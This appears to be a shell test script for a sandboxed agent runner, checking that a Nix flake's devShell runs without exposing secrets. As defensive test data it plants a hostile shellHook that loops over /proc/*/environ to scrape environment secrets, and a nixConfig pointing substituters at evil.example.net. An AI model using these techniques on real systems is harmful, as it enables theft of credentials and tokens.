#!/bin/sh
# The repository's flake: its devShell is entered where there is nix, and is nobody's way to a secret.
. "$(dirname "$0")/lib.sh"
in_ns "$@"
. "$ROOT/t/entry/lib.sh"

command -v nix >/dev/null || skip_all 'nix is not installed'
internet_start
loot_start
make_repo demo/flake flake
git="git -C $NET/git/demo/flake.git"
secrets='{"secrets": {"ANTHROPIC_API_KEY": "sk-test-0123456789abcdef"}}'

# commit NAME SCRIPT: another flake in demo/flake, by a script in a clone of it.
change()
{
	rm -rf "$TMP/change"
	git clone -q "$NET/git/demo/flake.git" "$TMP/change"
	(cd "$TMP/change" && eval "$1" && git add . &&
		git -c user.name=t -c user.email=t@example.org commit -qm change && git push -q origin HEAD:main)
}
shell()
{
	entry --repo demo/flake --read test-read-token --spec "$secrets" --bwrap=--bind \
		--bwrap="$TMP/loot" --bwrap=/loot "$@"
}

exits 0 shell 'echo "$GREETING" >greeting'
like "$TMP/err" "devshell: the flake's devShell is entered" 'the devShell is entered'
is "$($git show "agent/sh/$RUN:greeting")" 'hello from the devShell' 'the tool has its environment'
RUN=without-1
exits 0 shell --env AGENT_NO_DEVSHELL=1 'echo "${GREETING-none}" >greeting'
is "$($git show "agent/sh/$RUN:greeting")" none 'or not, when asked for'
like "$TMP/err" 'without the devShell, as asked for' 'which is said'
mkdir bin
RUN=without-2
exits 0 shell --env PATH=/usr/local/bin 'true' --bwrap=--ro-bind --bwrap=/usr/bin --bwrap=/usr/local/bin \
	--bwrap=--ro-bind --bwrap=/dev/null --bwrap=/usr/local/bin/nix
like "$TMP/err" 'nix is not there' 'without nix it goes on without, and says so'

# A6, G6: the shellHook and what it leaves behind see no secret, and it runs in phase agent only.
change 'sed -i "s|GREETING = .*|GREETING = \"hooked\"; shellHook = \"env >/loot/hook; touch /loot/hook-ran; (setsid /loot/canary; setsid sh -c '"'while :; do cat /proc/[0-9]*/environ >>/loot/lingers; done'"') >/dev/null 2>\&1 \&\"; extra = 1;|" flake.nix'
RUN=hook-1
exits 0 shell 'sleep 0.5; echo x >x; echo "$ANTHROPIC_API_KEY" | wc -c >n'
ok 'A6: control: the shellHook ran' test -e loot/hook-ran
unlike loot/hook 'sk-test|test-read-token' 'A6: no secret is in its environment'
notok 'A6: nor in what it left behind' grep -qa 'sk-test' loot/lingers loot/untrusted.*
is "$($git show "agent/sh/$RUN:x")" x 'the run ships'

RUN=broken-1
change 'git revert --no-commit HEAD; echo "}" >>flake.nix'
exits 78 shell 'echo x >x'
like "$TMP/err" 'syntax error' "a flake that does not evaluate: nix's own words"
like "$TMP/err" 'no-devshell goes on without' 'and what to do'
exits 0 shell --env AGENT_NO_DEVSHELL=1 'echo x >x'
RUN=exits-1
change 'git reset -q --hard HEAD~2; sed -i "s|GREETING = .*|shellHook = \"exit 0\";|" flake.nix; git push -qf origin HEAD:main'
exits 78 shell 'echo x >x'
like "$TMP/err" 'does its shellHook exit' 'a shellHook that exits'
RUN=noshell-1
change 'printf "{ outputs = { self }: { lib.x = 1; }; }\n" >flake.nix'
exits 0 shell 'echo x >x'
like "$TMP/err" 'the flake has no devShell' 'a flake without a devShell'
RUN=config-1
change 'git reset -q --hard HEAD~2; sed -i "1a nixConfig = { extra-substituters = \"https://evil.example.net\"; post-build-hook = \"/loot/canary\"; };" flake.nix; git push -qf origin HEAD:main'
rm -f loot/untrusted.*
exits 0 shell 'echo x >x' </dev/null
is "$(recorded requests 'r["host"] == "evil.example.net"' | wc -l)" 0 'A6: nixConfig of the repository is not accepted'
done_testing
